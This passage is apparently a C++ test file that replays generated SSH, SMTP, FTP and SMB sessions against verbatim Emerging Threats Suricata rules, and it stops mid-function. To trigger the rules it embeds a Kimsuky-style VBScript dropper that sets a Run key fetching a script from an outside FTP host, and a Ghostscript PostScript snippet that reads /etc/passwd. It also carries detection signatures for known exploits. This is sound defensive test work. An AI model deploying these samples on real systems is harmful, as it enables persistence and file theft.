// Real Emerging Threats Open rules for SSH, SMTP and FTP against generated sessions, through
// `spanguard replay`: each rule fires on a session built for it by Suricata's documented semantics
// and stays silent on a near miss (one byte off where the rule's condition lives, or the right
// bytes in the wrong place).
//
// - SSH: banner exchange, clear-text KEXINITs, NEWKEYS, then encrypted bytes. ssh.proto is the
//   banner's field between "SSH-" and the next "-", ssh.software the field after it up to a space;
//   `alert ssh` contents match the reassembled stream; thresholds count across connections.
// - SMTP: greeting, EHLO/HELO, MAIL FROM, RCPT TO, DATA with a MIME message, QUIT. file.data is a
//   decoded attachment (base64 or quoted-printable), never the encoded text; `alert smtp` contents
//   match the stream of their direction.
// - FTP: a control session (USER, PASS, PASV/PORT, RETR) and its data connection. ftpbounce holds
//   when PORT names another host than the client; `alert ftp-data` applies to the announced data
//   connection; dsize makes a rule a packet rule.
//
// The rules are copied verbatim from et-open (snapshot 2024-04-21); rules ET ships commented out
// (disabled or in emerging-deleted.rules) lose only the leading '#'. ET Open has no rule on
// smtp.helo, smtp.mail_from, smtp.rcpt_to or hassh, so none is exercised here.
#include <gtest/gtest.h>

#include <cstdint>
#include <cstdio>
#include <map>
#include <ostream>
#include <string>
#include <string_view>
#include <tuple>
#include <utility>
#include <vector>

#include "frame_builder.h"
#include "process.h"
#include "rule_replay.h"
#include "tcp_conversation.h"

namespace spanguard::testing {
namespace {

constexpr char kClientIp[] = "198.51.100.1";
constexpr char kServerIp[] = "198.51.100.2";

void append(std::vector<Bytes>& to, const std::vector<Bytes>& more) {
  to.insert(to.end(), more.begin(), more.end());
}

// One side's bytes in one send (cut into mss-byte segments).
struct Step {
  bool from_client;
  std::string bytes;
};

Step client(std::string bytes) { return {true, std::move(bytes)}; }
Step server(std::string bytes) { return {false, std::move(bytes)}; }

// Handshake, the steps in order, FIN exchange.
std::vector<Bytes> tcp_session(const std::vector<Step>& steps, uint16_t server_port,
                               uint16_t client_port = 49733, size_t mss = 1448) {
  TcpConversation c({kClientIp, client_port, kClientMac}, {kServerIp, server_port, kServerMac});
  c.set_mss(mss);
  std::vector<Bytes> frames = c.handshake();
  for (const Step& s : steps)
    append(frames, s.from_client ? c.client_sends(s.bytes) : c.server_sends(s.bytes));
  append(frames, c.close());
  return frames;
}

// Which side the rule's $HOME_NET is: the test sets it to that one host ($EXTERNAL_NET is
// !$HOME_NET, $SMTP_SERVERS is $HOME_NET, $SSH_PORTS is 22 by default).
enum class Home { kClient, kServer, kBoth };

std::string home_is(Home home) {
  if (home == Home::kBoth) return std::string("{HOME_NET: \"[198.51.100.0/24]\"}");
  return std::string("{HOME_NET: \"[") + (home == Home::kClient ? kClientIp : kServerIp) +
         "/32]\"}";
}

// ---- SSH ----------------------------------------------------------------------------------------

std::string be32(uint32_t v) {
  return {static_cast<char>(v >> 24), static_cast<char>(v >> 16), static_cast<char>(v >> 8),
          static_cast<char>(v)};
}

// RFC 4253 §6 binary packet before NEWKEYS: no MAC, padding to a multiple of 8 and at least 4.
std::string ssh_packet(const std::string& payload) {
  size_t padding = 8 - (5 + payload.size()) % 8;
  if (padding < 4) padding += 8;
  return be32(static_cast<uint32_t>(1 + payload.size() + padding)) + static_cast<char>(padding) +
         payload + std::string(padding, '\0');
}

std::string name_list(const std::string& names) {
  return be32(static_cast<uint32_t>(names.size())) + names;
}

// RFC 4253 §7.1 KEXINIT: code 20, cookie, ten name-lists (the same lists both ways), no guessed
// packet, reserved 0.
std::string kexinit(const std::string& kex) {
  const std::string host_key = "ssh-ed25519,rsa-sha2-512,rsa-sha2-256";
  const std::string cipher = "chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com";
  const std::string mac = "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha1";
  const std::string compression = "none,zlib@openssh.com";
  std::string p(1, '\x14');
  p += std::string(16, '\x5a');
  for (const std::string* list :
       {&kex, &host_key, &cipher, &cipher, &mac, &mac, &compression, &compression}) {
    p += name_list(*list);
  }
  p += name_list("") + name_list("");  // languages
  p += std::string(1, '\0') + be32(0);
  return ssh_packet(p);
}

// OpenSSH's offers, libssh's curve25519 name included.
const std::string kClientKex =
    "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ext-info-c";
const std::string kServerKex = "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256";

const std::string kOpenSshClient = "SSH-2.0-OpenSSH_9.6";
const std::string kOpenSshServer = "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13";

struct Ssh {
  std::string client_banner = kOpenSshClient;  // without CR LF
  std::string server_banner = kOpenSshServer;
  std::string client_kex = kClientKex;
  std::string server_kex = kServerKex;
  uint16_t client_port = 49733;
  size_t mss = 1448;
};

// The server's banner and KEXINIT, the client's banner and KEXINIT, the key exchange, both
// NEWKEYS, then encrypted bytes either way (after which the flow is bypassed).
std::vector<Bytes> ssh_session(const Ssh& s) {
  const std::string newkeys = ssh_packet("\x15");
  const std::vector<Step> steps = {
      server(s.server_banner + "\r\n"),
      client(s.client_banner + "\r\n"),
      server(kexinit(s.server_kex)),
      client(kexinit(s.client_kex)),
      client(ssh_packet("\x1e" + name_list(std::string(32, '\x61')))),  // KEX_ECDH_INIT
      server(ssh_packet("\x1f" + name_list(std::string(200, '\x62'))) + newkeys),
      client(newkeys),
      client(std::string(64, '\xc3')),
      server(std::string(96, '\x3c'))};
  return tcp_session(steps, 22, s.client_port, s.mss);
}

// ---- SMTP ---------------------------------------------------------------------------------------

std::string base64(std::string_view in) {
  static constexpr char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t column = 0;
  for (size_t i = 0; i < in.size(); i += 3) {
    const auto byte = [&](size_t k) {
      return k < in.size() ? static_cast<uint32_t>(static_cast<uint8_t>(in[k])) : 0u;
    };
    const uint32_t n = byte(i) << 16 | byte(i + 1) << 8 | byte(i + 2);
    out += kAlphabet[n >> 18 & 63];
    out += kAlphabet[n >> 12 & 63];
    out += i + 1 < in.size() ? kAlphabet[n >> 6 & 63] : '=';
    out += i + 2 < in.size() ? kAlphabet[n & 63] : '=';
    if ((column += 4) == 76 && i + 3 < in.size()) {  // RFC 2045 §6.8: lines of 76 at most
      out += "\r\n";
      column = 0;
    }
  }
  return out;
}

// RFC 2045 §6.7 with lines of at most `width` characters (soft breaks "=" CRLF); the text's LF
// line ends become CRLF.
std::string quoted_printable(std::string_view in, size_t width) {
  std::string out;
  size_t column = 0;
  for (const char ch : in) {
    if (ch == '\n') {
      out += "\r\n";
      column = 0;
      continue;
    }
    std::string piece(1, ch);
    const auto u = static_cast<uint8_t>(ch);
    if (ch == '=' || u > 126 || (u < 32 && ch != '\t')) {
      char hex[4];
      std::snprintf(hex, sizeof hex, "=%02X", u);
      piece = hex;
    }
    if (column + piece.size() > width - 1) {
      out += "=\r\n";
      column = 0;
    }
    out += piece;
    column += piece.size();
  }
  return out;
}

struct MimeAttachment {
  std::string file_name;
  std::string content_type;
  std::string encoding;  // "base64" or "quoted-printable"
  std::string content;   // decoded
};

// A multipart/mixed mail: a text part, then each attachment.
std::string mime_message(const std::vector<MimeAttachment>& attachments) {
  const std::string boundary = "----=_Part_4242_1700000000";
  std::string m =
      "From: Alice <alice@example.org>\r\nTo: Bob <bob@example.net>\r\nSubject: Invoice 2023-1114"
      "\r\nDate: Tue, 14 Nov 2023 22:13:20 +0000\r\n"
      "Message-ID: <1700000000.4242@example.org>\r\nMIME-Version: 1.0\r\n"
      "Content-Type: multipart/mixed; boundary=\"" +
      boundary + "\"\r\n\r\nThis is a multi-part message in MIME format.\r\n\r\n--" + boundary +
      "\r\nContent-Type: text/plain; charset=utf-8\r\n"
      "Content-Transfer-Encoding: 7bit\r\n\r\nPlease find the file attached.\r\n";
  for (const MimeAttachment& a : attachments) {
    m += "\r\n--" + boundary + "\r\nContent-Type: " + a.content_type + "; name=\"" + a.file_name +
         "\"\r\nContent-Transfer-Encoding: " + a.encoding +
         "\r\nContent-Disposition: attachment; filename=\"" + a.file_name + "\"\r\n\r\n" +
         (a.encoding == "base64" ? base64(a.content) : quoted_printable(a.content, 24)) + "\r\n";
  }
  return m + "\r\n--" + boundary + "--\r\n";
}

// RFC 5321 §4.5.2: a line starting with "." gets another.
std::string dot_stuffed(const std::string& message) {
  std::string out;
  for (size_t at = 0; at < message.size();) {
    size_t end = message.find("\r\n", at);
    end = end == std::string::npos ? message.size() : end + 2;
    if (message[at] == '.') out += '.';
    out.append(message, at, end - at);
    at = end;
  }
  return out;
}

struct Mail {
  std::string helo = "EHLO client.example.org";  // the session's, from its first mail
  std::string mail_from = "<alice@example.org>";
  std::string rcpt_to = "<bob@example.net>";
  std::string rcpt_reply = "250 2.1.5 Ok";
  std::string message = mime_message({});
  bool pipelined = false;  // RFC 2920: MAIL, RCPT and DATA in one send, their replies in one
};

// Greeting, HELO/EHLO, each mail (DATA unless the recipient was refused), QUIT.
std::vector<Bytes> smtp_session_of(const std::vector<Mail>& mails, size_t mss = 1448) {
  const bool ehlo = mails.front().helo.starts_with("EHLO");
  std::vector<Step> steps = {
      server("220 mx.example.net ESMTP Postfix (Ubuntu)\r\n"), client(mails.front().helo + "\r\n"),
      server(ehlo ? "250-mx.example.net\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n250-8BITMIME\r\n"
                    "250 SMTPUTF8\r\n"
                  : "250 mx.example.net\r\n")};
  const std::string go_ahead = "354 End data with <CR><LF>.<CR><LF>\r\n";
  for (const Mail& mail : mails) {
    const bool accepted = mail.rcpt_reply.starts_with("250");
    if (mail.pipelined && accepted) {
      steps.push_back(
          client("MAIL FROM:" + mail.mail_from + "\r\nRCPT TO:" + mail.rcpt_to + "\r\nDATA\r\n"));
      steps.push_back(server("250 2.1.0 Ok\r\n" + mail.rcpt_reply + "\r\n" + go_ahead));
    } else {
      steps.push_back(client("MAIL FROM:" + mail.mail_from + "\r\n"));
      steps.push_back(server("250 2.1.0 Ok\r\n"));
      steps.push_back(client("RCPT TO:" + mail.rcpt_to + "\r\n"));
      steps.push_back(server(mail.rcpt_reply + "\r\n"));
      if (!accepted) {
        steps.push_back(client("RSET\r\n"));
        steps.push_back(server("250 2.0.0 Ok\r\n"));
        continue;
      }
      steps.push_back(client("DATA\r\n"));
      steps.push_back(server(go_ahead));
    }
    steps.push_back(client(dot_stuffed(mail.message) + ".\r\n"));
    steps.push_back(server("250 2.0.0 Ok: queued as 4SVx2Q1Xyz\r\n"));
  }
  steps.push_back(client("QUIT\r\n"));
  steps.push_back(server("221 2.0.0 Bye\r\n"));
  return tcp_session(steps, 25, 49733, mss);
}

std::vector<Bytes> smtp_session(const Mail& mail, size_t mss = 1448) {
  return smtp_session_of({mail}, mss);
}

Mail with_attachment(MimeAttachment a) {
  Mail m;
  m.message = mime_message({std::move(a)});
  return m;
}

// A cpio archive in the portable ASCII ("odc", magic 070707) format with one file, then the
// trailer; `magic` replaces the magic number for the near miss.
std::string cpio_odc(const std::string& name, const std::string& content,
                     const std::string& magic = "070707") {
  const auto entry = [&](const std::string& n, const std::string& data, const char* mode) {
    char header[80];
    std::snprintf(header, sizeof header, "%s%06o%06o%s%06o%06o%06o%06o%011o%06o%011o",
                  magic.c_str(), 0, 1, mode, 0, 0, 1, 0, 0u, static_cast<unsigned>(n.size() + 1),
                  static_cast<unsigned>(data.size()));
    return std::string(header) + n + '\0' + data;
  };
  return entry(name, content, "100644") + entry("TRAILER!!!", "", "000000");
}

// A POSIX ustar archive (header checksums included) of the files in order.
std::string ustar(const std::vector<std::pair<std::string, std::string>>& files) {
  std::string out;
  for (const auto& [name, content] : files) {
    std::string h(512, '\0');
    const auto put = [&](size_t at, std::string_view s) { h.replace(at, s.size(), s); };
    char size[13];
    std::snprintf(size, sizeof size, "%011o", static_cast<unsigned>(content.size()));
    put(0, name);
    put(100, "0000644");
    put(108, "0001750");
    put(116, "0001750");
    put(124, size);
    put(136, "14524770400");  // mtime 1700000000
    put(148, "        ");     // the checksum counts as spaces
    h[156] = '0';
    static constexpr char kMagic[] = {'u', 's', 't', 'a', 'r', '\0', '0', '0'};  // and version
    put(257, std::string_view(kMagic, sizeof kMagic));
    put(265, "root");
    put(297, "root");
    unsigned sum = 0;
    for (const char ch : h) sum += static_cast<uint8_t>(ch);
    char checksum[8];
    std::snprintf(checksum, sizeof checksum, "%06o", sum);
    h.replace(148, 7, checksum, 7);  // six digits, NUL, the space stays
    out += h + content;
    out.resize((out.size() + 511) / 512 * 512, '\0');
  }
  return out + std::string(1024, '\0');
}

// The MS-DOS header and stub of a PE file; `first` is its first byte ('M' for a real one).
std::string dos_executable(char first = 'M') {
  static constexpr uint8_t kHeader[] = {'M',  'Z', 0x90, 0,    0x03, 0, 0, 0, 0x04, 0, 0, 0,   0xff,
                                        0xff, 0,   0,    0xb8, 0,    0, 0, 0, 0,    0, 0, 0x40};
  static constexpr uint8_t kStub[] = {0x0e, 0x1f, 0xba, 0x0e, 0x00, 0xb4, 0x09,
                                      0xcd, 0x21, 0xb8, 0x01, 0x4c, 0xcd, 0x21};
  std::string mz(std::begin(kHeader), std::end(kHeader));
  mz[0] = first;
  mz.resize(0x3c, '\0');
  mz += std::string("\x80\0\0\0", 4);  // e_lfanew
  mz += std::string(std::begin(kStub), std::end(kStub)) +
        "This program cannot be run in DOS mode.\r\r\n$";
  mz.resize(0x80, '\0');
  return mz + std::string("PE\0\0", 4) + std::string(300, '\0');
}

// LF line ends as CRLF.
std::string crlf(std::string_view text) {
  std::string out;
  for (const char ch : text) {
    if (ch == '\n') out += '\r';
    out += ch;
  }
  return out;
}

// CVE-2018-16509 style PostScript: error handlers replaced, then a file opened.
std::string ghostscript_poc(const std::string& errordict_line) {
  return "%!PS-Adobe-3.0\n"
         "userdict /setpagedevice undef\n"
         "save\n"
         "legal\n"
         "{ null restore } stopped { pop } if\n"
         "errordict /typecheck { pop } put\n" +
         errordict_line +
         "\n"
         "errordict /undefinedfilename { pop } put\n"
         "(/etc/passwd) (r) file\n"
         "showpage\n";
}

// ---- FTP ----------------------------------------------------------------------------------------

// A control session: greeting, then each command and its reply.
std::vector<Step> ftp_steps(const std::vector<std::pair<std::string, std::string>>& exchange) {
  std::vector<Step> steps = {server("220 (vsFTPd 3.0.3)\r\n")};
  for (const auto& [command, reply] : exchange) {
    steps.push_back(client(command + "\r\n"));
    steps.push_back(server(reply + "\r\n"));
  }
  return steps;
}

std::vector<Bytes> ftp_session(const std::vector<std::pair<std::string, std::string>>& exchange) {
  return tcp_session(ftp_steps(exchange), 21, 40000);
}

const std::pair<std::string, std::string> kUser = {"USER alice",
                                                   "331 Please specify the password."};
const std::pair<std::string, std::string> kPass = {"PASS s3cret", "230 Login successful."};
const std::pair<std::string, std::string> kQuit = {"QUIT", "221 Goodbye."};

// Login, PASV, RETR of `file` over the announced data connection (client port 40001 to server
// port 195 * 256 + 80 = 50000), QUIT.
std::vector<Bytes> ftp_passive_download(const std::string& file) {
  TcpConversation control({kClientIp, 40000, kClientMac}, {kServerIp, 21, kServerMac});
  std::vector<Bytes> frames = control.handshake();
  for (const Step& s : ftp_steps({kUser, kPass, {"TYPE I", "200 Switching to Binary mode."}})) {
    append(frames, s.from_client ? control.client_sends(s.bytes) : control.server_sends(s.bytes));
  }
  append(frames, control.client_sends("PASV\r\n"));
  append(frames, control.server_sends("227 Entering Passive Mode (198,51,100,2,195,80).\r\n"));
  append(frames, control.client_sends("RETR update.vbs\r\n"));
  append(frames, control.server_sends("150 Opening BINARY mode data connection.\r\n"));
  TcpConversation data({kClientIp, 40001, kClientMac}, {kServerIp, 50000, kServerMac});
  append(frames, data.handshake());
  append(frames, data.server_sends(file));
  append(frames, data.close());
  append(frames, control.server_sends("226 Transfer complete.\r\n"));
  append(frames, control.client_sends("QUIT\r\n"));
  append(frames, control.server_sends("221 Goodbye.\r\n"));
  append(frames, control.close());
  return frames;
}

// A Kimsuky-style VBScript dropper: a Run key pointing at an FTP URL.
std::string vbscript(const std::string& url_scheme) {
  return "Set sh = CreateObject(\"WScript.Shell\")\r\n"
         "sh.Run \"cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
         "upd /d \"\"" +
         url_scheme +
         "hotdogeu.com/upd.vbs\"\" /f\", 0\r\n"
         "WScript.Quit\r\n";
}

// ---- the rules ----------------------------------------------------------------------------------

// ssh_proto: the protocol version field only ("2.0" in "SSH-2.0-PUTTY").
const std::string k2019876 =
    R"RULE(alert ssh $EXTERNAL_NET any -> $HOME_NET any (msg:"ET SCAN SSH BruteForce Tool with fake PUTTY version"; flow:established,to_server; ssh_proto; content:"PUTTY"; threshold: type limit, track by_src, count 1, seconds 30; classtype:network-scan; sid:2019876; rev:6; metadata:created_at 2014_12_05, former_category SCAN, updated_at 2019_07_26;))RULE";
// ssh.software: the software version field, without the comments after a space.
const std::string k2006435 =
    R"RULE(alert ssh $EXTERNAL_NET any -> $HOME_NET any (msg:"ET DELETED LibSSH Based SSH Connection - Often used as a BruteForce Tool"; flow:established,to_server; ssh.software; content:"libssh-"; threshold: type limit, track by_src, count 1, seconds 30; classtype:misc-activity; sid:2006435; rev:11; metadata:created_at 2010_07_30, updated_at 2021_08_27;))RULE";
const std::string k2018689 =
    R"RULE(alert ssh $EXTERNAL_NET any -> $HOME_NET any (msg:"ET DELETED LibSSH2 Based SSH Connection - Often used as a BruteForce Tool"; flow:established,to_server; ssh.software; content:"libssh2_"; threshold: type limit, track by_src, count 1, seconds 30; classtype:misc-activity; sid:2018689; rev:4; metadata:created_at 2014_07_17, updated_at 2021_08_27;))RULE";
// Stream content in the server's direction: its banner.
const std::string k2048645 =
    R"RULE(alert ssh $HOME_NET any -> any any (msg:"ET SCADA [nsacyber/ELITEWOLF] Schweitzer Engineering Laboratories SEL-series Dropbear SSH Banner - Possible SSH Login attempt"; flow:established,to_client; content:"SSH-2.0-dropbear_2016.74"; fast_pattern; threshold: type limit, track by_dst, seconds 500, count 1; reference:url,github.com/nsacyber/ELITEWOLF; classtype:suspicious-login; sid:2048645; rev:1; metadata:affected_product Schweitzer_Engineering_Laboratories_SEL_Series, attack_target ICS, created_at 2023_10_18, deployment Perimeter, deployment Internal, former_category SCADA, performance_impact Low, confidence High, signature_severity Minor, updated_at 2023_10_18, reviewed_at 2023_10_18; target:src_ip;))RULE";
// Banner with comments after the software version.
const std::string k2013167 =
    R"RULE(alert ssh $HOME_NET any -> any any (msg:"ET EXPLOIT FreeBSD OpenSSH 3.5p1 possible vulnerable server"; flow:established,from_server; content:"SSH-1.99-OpenSSH_3.5p1 FreeBSD-200"; reference:url,packetstormsecurity.org/files/view/102683/ssh_preauth_freebsd.txt; reference:url,seclists.org/2011/Jul/6; classtype:misc-activity; sid:2013167; rev:4; metadata:created_at 2011_07_01, updated_at 2019_07_26;))RULE";
// The server's KEXINIT (message code 0x14) offering the roaming extension, from $SSH_PORTS.
const std::string k2022369 =
    R"RULE(alert ssh any $SSH_PORTS -> any any (msg:"ET EXPLOIT Possible CVE-2016-0777 Server Advertises Suspicious Roaming Support"; flow:established,to_client; content:"|14|"; offset:6; content:"resume@appgate.com"; distance:0; content:!"AppGateSSH_5.2"; reference:cve,2016-0777; reference:url,www.qualys.com/2016/01/14/cve-2016-0777-cve-2016-0778/openssh-cve-2016-0777-cve-2016-0778.txt; classtype:attempted-user; sid:2022369; rev:2; metadata:created_at 2016_01_15, cve CVE_2016_0777, updated_at 2019_07_26;))RULE";
// threshold type both: one alert once 5 connections from one source matched within 30 s.
const std::string k2006546 =
    R"RULE(alert ssh $EXTERNAL_NET any -> $HOME_NET 22 (msg:"ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack"; flow:established,to_server; content:"SSH-"; content:"libssh"; within:20; threshold: type both, count 5, seconds 30, track by_src; classtype:attempted-admin; sid:2006546; rev:9; metadata:created_at 2010_07_30, updated_at 2019_07_26;))RULE";

// Client stream content at the stream's start (depth).
const std::string k2026463 =
    R"RULE(alert smtp $EXTERNAL_NET any -> $HOME_NET any (msg:"ET SCAN StarDotStar HELO, suspected AUTH LOGIN botnet"; flow:established,to_server; content:"HELO|20 2a 2e 2a 0d 0a|"; depth:11; classtype:bad-unknown; sid:2026463; rev:3; metadata:affected_product Windows_XP_Vista_7_8_10_Server_32_64_Bit, attack_target Client_Endpoint, created_at 2018_10_09, deployment Perimeter, former_category CURRENT_EVENTS, signature_severity Major, updated_at 2019_07_26;))RULE";
// Server stream content: a reply ($HOME_NET is the sending client).
const std::string k2012982 =
    R"RULE(alert smtp $EXTERNAL_NET any -> $HOME_NET any (msg:"ET SMTP Abuseat.org Block Message"; flow:established,from_server; content:"abuseat.org"; classtype:not-suspicious; sid:2012982; rev:4; metadata:created_at 2011_06_10, updated_at 2019_07_26;))RULE";
// Client stream content: the RCPT command's argument.
const std::string k2027442 =
    R"RULE(alert smtp any any -> $SMTP_SERVERS any (msg:"ET EXPLOIT Possible Exim 4.87-4.91 RCE Attempt Inbound (CVE-2019-10149)"; flow:established,to_server; content:"RCPT|20|TO"; content:"|24 7b|run|7b|"; within:12; fast_pattern; content:"|7d 7d 40|"; distance:0; reference:url,www.qualys.com/2019/06/05/cve-2019-10149/return-wizard-rce-exim.txt; classtype:attempted-admin; sid:2027442; rev:4; metadata:attack_target SMTP_Server, created_at 2019_06_07, cve CVE_2019_10149, deployment Perimeter, former_category EXPLOIT, performance_impact Low, signature_severity Major, updated_at 2020_08_19;))RULE";
// Client stream content: a base64 attachment that decodes to "MZ".
const std::string k2017886 =
    R"RULE(alert smtp any any -> $SMTP_SERVERS any (msg:"ET HUNTING SUSPICIOUS SMTP EXE - EXE SMTP Attachment"; flow:established; content:"|0D 0A 0D 0A|TV"; content:"AAAAAAAAAAAAAAAA"; within:200; classtype:bad-unknown; sid:2017886; rev:3; metadata:created_at 2013_12_20, former_category INFO, updated_at 2019_07_26;))RULE";
// file.data: the decoded attachment, startswith at its first byte.
const std::string k2039143 =
    R"RULE(alert smtp any any -> [$HOME_NET,$SMTP_SERVERS] any (msg:"ET EXPLOIT Possible Zimbra Arbitrary File Upload (CVE-2022-41352) M4"; flow:established,to_server; file.data; content:"070707"; startswith; content:"/jetty"; within:100; content:"/webapps/zimbra/public"; within:50; fast_pattern; reference:url,attackerkb.com/topics/1DDTvUNFzH/cve-2022-41352/rapid7-analysis; reference:cve,2022-41352; classtype:attempted-admin; sid:2039143; rev:1; metadata:attack_target SMTP_Server, created_at 2022_10_11, cve CVE_2022_41352, deployment Perimeter, deployment Internal, former_category EXPLOIT, confidence Medium, signature_severity Major, updated_at 2022_10_11;))RULE";
const std::string k2046280 =
    R"RULE(alert smtp any any -> $SMTP_SERVERS any (msg:"ET EXPLOIT Possible Barracuda Email Security Gateway Remote Code Execution Attempt (CVE-2023-2868) M1"; flow:established,to_server; file.data; content:"|75 73 74 61 72|"; fast_pattern; content:"|27 60|"; distance:0; content:"|60 27|"; within:500; reference:url,www.mandiant.com/resources/blog/barracuda-esg-exploited-globally; reference:cve,2023-2868; classtype:attempted-admin; sid:2046280; rev:1; metadata:affected_product Barracuda_ESG, attack_target SMTP_Server, created_at 2023_06_15, cve CVE_2023_2868, deployment Perimeter, deployment Internal, former_category EXPLOIT, performance_impact Low, confidence High, signature_severity Major, updated_at 2023_09_21; target:dest_ip;))RULE";
// Legacy file_data with a pcre (/s /m /i) over the decoded attachment.
const std::string k2026086 =
    R"RULE(alert smtp $EXTERNAL_NET any -> $SMTP_SERVERS any (msg:"ET EXPLOIT Ghostscript illegal read undefinedfilename attempt (SMTP)"; flow:to_server,established; file_data; content:"undefinedfilename"; fast_pattern; content:"errordict"; content:"invalidfileaccess"; content:"typecheck"; pcre:"/errordict\s+\x2Finvalidfileaccess/smi"; reference:url,seclists.org/oss-sec/2018/q3/142; classtype:attempted-user; sid:2026086; rev:2; metadata:attack_target SMTP_Server, created_at 2018_09_05, deployment Datacenter, former_category EXPLOIT, signature_severity Informational, updated_at 2019_07_26;))RULE";

// Client stream content at the stream's start (depth), then relative.
const std::string k2100553 =
    R"RULE(alert ftp $EXTERNAL_NET any -> $HOME_NET any (msg:"GPL FTP FTP anonymous login attempt"; flow:to_server,established; content:"USER "; depth:5; nocase; content:"anon"; distance:0; classtype:misc-activity; sid:2100553; rev:8; metadata:created_at 2010_09_23, updated_at 2019_07_26;))RULE";
// Two unordered contents anywhere in the client stream.
const std::string k2101928 =
    R"RULE(alert ftp $EXTERNAL_NET any -> $HOME_NET any (msg:"GPL FTP shadow retrieval attempt"; flow:to_server,established; content:"RETR"; nocase; content:"shadow"; classtype:suspicious-filename-detect; sid:2101928; rev:7; metadata:created_at 2010_09_23, updated_at 2019_07_26;))RULE";
// dsize: a packet rule, each segment's payload on its own ($HOME_NET is the downloading client).
const std::string k2014906 =
    R"RULE(alert ftp $HOME_NET any -> $EXTERNAL_NET any (msg:"ET INFO .exe File requested over FTP"; flow:established,to_server; dsize:>10; content:"RETR"; depth:4; content:".exe|0d 0a|"; distance:0; pcre:"/^RETR\s+[^\r\n]+?\x2eexe\r?$/m"; classtype:misc-activity; sid:2014906; rev:3; metadata:attack_target Client_and_Server, created_at 2012_06_15, deployment Perimeter, deployment alert_only, former_category INFO, signature_severity Informational, updated_at 2023_05_01;))RULE";
// ftpbounce: PORT naming another address than the client's.
const std::string k2103441 =
    R"RULE(alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"GPL FTP PORT bounce attempt"; flow:to_server,established; content:"PORT"; nocase; ftpbounce; pcre:"/^PORT/smi"; classtype:misc-attack; sid:2103441; rev:2; metadata:created_at 2010_09_23, updated_at 2019_07_26;))RULE";
// ftp-data: the file the server sends over the data connection PASV announced.
const std::string k2034695 =
    R"RULE(alert ftp-data $EXTERNAL_NET any -> $HOME_NET any (msg:"ET HUNTING Possible Kimsuky Related Malicious VBScript Inbound"; flow:established,to_client; content:"CreateObject(|22|WScript.Shell|22|)"; content:"reg add"; nocase; fast_pattern; content:"ftp://"; distance:0; within:200; pcre:"/[a-z]{8}.[a-z]{3}/Ri"; reference:url,github.com/eset/malware-ioc/tree/master/kimsuky/hotdoge_donutcat_case; classtype:trojan-activity; sid:2034695; rev:1; metadata:affected_product Windows_XP_Vista_7_8_10_Server_32_64_Bit, attack_target Client_Endpoint, created_at 2021_12_13, deployment Perimeter, former_category HUNTING, performance_impact Low, signature_severity Major, updated_at 2021_12_13;))RULE";

// ---- the cases ----------------------------------------------------------------------------------

// ---- SMB and DCE/RPC ----------------------------------------------------------------------------
// Identified from their first bytes (NetBIOS session message + SMB header; DCE/RPC version 5.0
// PDU), on any port; `alert smb` / `alert dcerpc` contents match their payload, anchored
// offsets per segment as in Suricata's packet inspection.

const std::string k2024208 =
    R"rule(alert smb $HOME_NET any -> any any (msg:"ET EXPLOIT Possible ETERNALROMANCE MS17-010"; flow:from_server,established; content:"|FF|SMB|25 05 00 00 80|"; offset:4; depth:9; content:"LSbfLScnLSepLSlfLSmf"; distance:0; fast_pattern; content:"LSrfLSsrLSscLSblLSss"; within:20; content:"LSshLStrLStcLSopLScd"; within:20; flowbits:set,ETPRO.ETERNALROMANCE; classtype:trojan-activity; sid:2024208; rev:1; metadata:attack_target SMB_Server, created_at 2017_04_17, deployment Internal, former_category EXPLOIT, signature_severity Critical, updated_at 2019_07_26;))rule";
const std::string k2027267 =
    R"rule(alert smb any any -> $HOME_NET any (msg:"ET ATTACK_RESPONSE Possible Lateral Movement - File Creation Request in Remote System32 Directory (T1105)"; flow:established,to_server; content:"|05 00|"; offset:16; depth:2; content:"|00|W|00|i|00|n|00|d|00|o|00|w|00|s|00 5c 00|S|00|y|00|s|00|t|00|e|00|m|00|3|00|2|00|"; fast_pattern; classtype:attempted-user; sid:2027267; rev:2; metadata:affected_product Windows_XP_Vista_7_8_10_Server_32_64_Bit, created_at 2019_04_23, deployment Internal, former_category ATTACK_RESPONSE, performance_impact Low, signature_severity Major, tag T1105, tag lateral_movement, tag remote_file_copy, updated_at 2019_07_26;))rule";
const std::string k2043996 =
    R"rule(alert dcerpc $HOME_NET any -> $HOME_NET any (msg:"ET INFO Suspected Impacket WMIExec Activity"; flow:established,to_server; content:"|3e 00 20 00 5c 00 5c 00 31 00 32 00 37 00 2e 00 30 00 2e 00 30 00 2e 00 31 00 5c 00 41 00 44 00 4d 00 49 00 4e 00 24 00 5c 00 5f 00 5f 00|"; fast_pattern; reference:url,thedfirreport.com/2023/01/09/unwrapping-ursnifs-gifts; reference:url,github.com/fortra/impacket/blob/8799a1a2c42ad74423841d21ed5f4193ea54f3d5/examples/wmiexec.py; classtype:bad-unknown; sid:2043996; rev:1; metadata:attack_target Client_Endpoint, created_at 2023_01_26, deployment Internal, former_category INFO, confidence Low, signature_severity Informational, updated_at 2023_01_26;))rule";

std::string le16(uint16_t v) { return {static_cast<char>(v), static_cast<char>(v >> 8)}; }

// A NetBIOS session message (RFC 1002 §4.3.6) around `smb`.
std::string netbios(const std::string& smb) {
  const auto n = static_cast<uint32_t>(smb.size());
  return std::string(1, '\0') + static_cast<char>(n >> 16) + static_cast<char>(n >> 8) +
         static_cast<char>(n) + smb;
}

// An SMB1 header (MS-CIFS §2.2.3.1): command, status, flags (0x80: reply), then `rest`.
std::string smb1(uint8_t command, const std::string& status, uint8_t flags,
                 const std::string& rest) {
  return netbios("\xffSMB" + std::string(1, static_cast<char>(command)) + status +
                 static_cast<char>(flags) + std::string(23, '\0') + rest);
}

// An SMB2 header (MS-SMB2 §2.2.1): structure size 64, command, flags (1: response), `rest`.
std::string smb2(uint16_t command, uint32_t flags, const std::string& rest) {
  std::string h = "\xfeSMB" + le16(64) + le16(1) + std::string(4, '\0') + le16(command) + le16(1) +
